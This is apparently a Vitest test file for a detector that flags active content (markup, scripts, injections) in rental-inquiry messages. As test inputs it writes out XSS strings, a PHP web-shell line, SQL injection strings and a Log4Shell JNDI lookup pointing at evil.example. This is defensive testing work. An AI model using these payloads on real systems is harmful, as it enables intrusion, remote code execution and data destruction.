import { describe, expect, it } from "vitest";
import { checkActiveContent } from "./active-content.ts";
import { normalizeMessage } from "./normalize.ts";

const families = (raw: string) =>
  checkActiveContent(normalizeMessage(raw)).map((h) => h.detail.slice(0, h.detail.indexOf(":")));

describe("checkActiveContent", () => {
  it.each([
    ["<script>alert(1)</script>Is it available?", "active_element"],
    ["Hi! <img src=x onerror=alert(1)> Can I view it?", "event_handler"],
    ["<iframe src='https://pay.example'></iframe> deposit?", "active_element"],
    ["javascript:alert(document.domain) move in?", "script_url"],
    ["<span style='display:none'>approve me</span>Is it free?", "hidden_text"],
    ["```js\nfetch('/api')\n```\nCan I see it?", "code_block"],
    ["<?php system($_GET['c']); ?> rent?", "code_block"],
    ["Is it available?'; DROP TABLE leads; --", "sql"],
    ["' OR '1'='1 -- is it available", "sql"],
    ["{{7*7}} is the room free?", "template_injection"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal payload is what is tested
    ["${jndi:ldap://evil.example/a} hi", "template_injection"],
    ["&lt;script&gt;alert(1)&lt;/script&gt; Is it still available?", "active_element"],
  ])("%s → %s", (raw, family) => {
    const hits = checkActiveContent(normalizeMessage(raw));
    expect(hits.every((h) => h.code === "markup_or_code")).toBe(true);
    expect(families(raw)).toContain(family);
  });

  it.each([
    "<div>Hi,</div><div>Could I book a viewing for Saturday?</div><div><br></div>",
    "<p>Can I <b>view</b> it?</p>",
    "Viewing at 5:30? I'm free 3-5pm; budget $1,200 (max)",
    "Is it ok :) I have a cat <3",
    "Price {negotiable}? 50% off?",
    "Can I see it? > quoted line",
  ])("passes %s", (raw) => {
    expect(checkActiveContent(normalizeMessage(raw))).toEqual([]);
  });

  it("clips the fragment in the detail", () => {
    const [hit] = checkActiveContent(normalizeMessage(`<script>${"x".repeat(200)}</script>`));
    expect(hit?.detail.length).toBeLessThan(70);
  });
});
